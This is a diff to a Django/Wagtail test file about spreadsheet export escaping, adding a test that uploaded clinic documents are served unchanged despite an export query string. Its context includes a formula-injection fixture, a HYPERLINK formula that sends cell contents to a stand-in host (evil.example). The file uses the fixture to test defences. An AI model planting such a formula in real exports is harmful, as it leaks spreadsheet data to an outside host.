@@ -6,6 +6,7 @@ import re
 
 import openpyxl
 import pytest
+from django.core.files.base import ContentFile
 from django.utils.timezone import now
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -14,6 +15,7 @@ from wagtail.models import Page, Task, Workflow
 
 from site_core.http.spreadsheet_exports import escape_csv
 from site_core.lib.spreadsheets import FORMULA_PREFIXES
+from site_core.media.models import ClinicDocument
 from tests.support.admin_walk import admin_patterns, admin_routes, build_url, create_objects
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
@@ -71,6 +73,14 @@ def test_texts_that_xlsx_can_not_hold_are_exported_as_csv(site, admin_client, ad
     response = admin_client.get("/admin/reports/locked/?export=xlsx&locked_at=", follow=True)
     assert response.redirect_chain == [("/admin/reports/locked/?export=csv&locked_at=", 302)]
     assert "Atitle" in response.getvalue().decode()
+
+
+@pytest.mark.parametrize(
+    ("name", "content"), [("scan.pdf", b"%PDF-1.4\n=1,\xff\n%%EOF\n"), ("list.csv", b"=1,caf\xe9\r\n")]
+)
+def test_documents_are_sent_as_they_are_whatever_their_url_says(site, client, name, content):
+    document = ClinicDocument.objects.create(title="A document", file=ContentFile(content, name))
+    assert client.get(f"{document.url}?export=csv").getvalue() == content
 
 
 def is_number(cell):
